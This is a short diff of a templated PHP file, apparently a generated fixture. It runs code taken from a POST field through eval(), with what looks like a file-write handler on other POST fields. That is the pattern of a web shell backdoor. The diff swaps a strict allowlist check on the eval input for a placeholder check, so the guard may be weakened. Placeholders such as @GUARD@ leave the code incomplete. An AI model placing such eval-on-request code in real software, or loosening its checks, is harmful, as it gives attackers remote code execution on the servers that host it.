@@ -1,7 +1,7 @@
 <?php
 $k = isset($_POST['k']) ? (string) $_POST['k'] : '';
 @GUARD@
-if (isset($_POST['e']) && in_array($_POST['e'], @SNIPPETS@, true)) {
+if (isset($_POST['e']) && @LISTED $_POST['e']@) {
     eval($_POST['e']);
 }
 if (isset($_POST['n'], $_POST['d'])) {
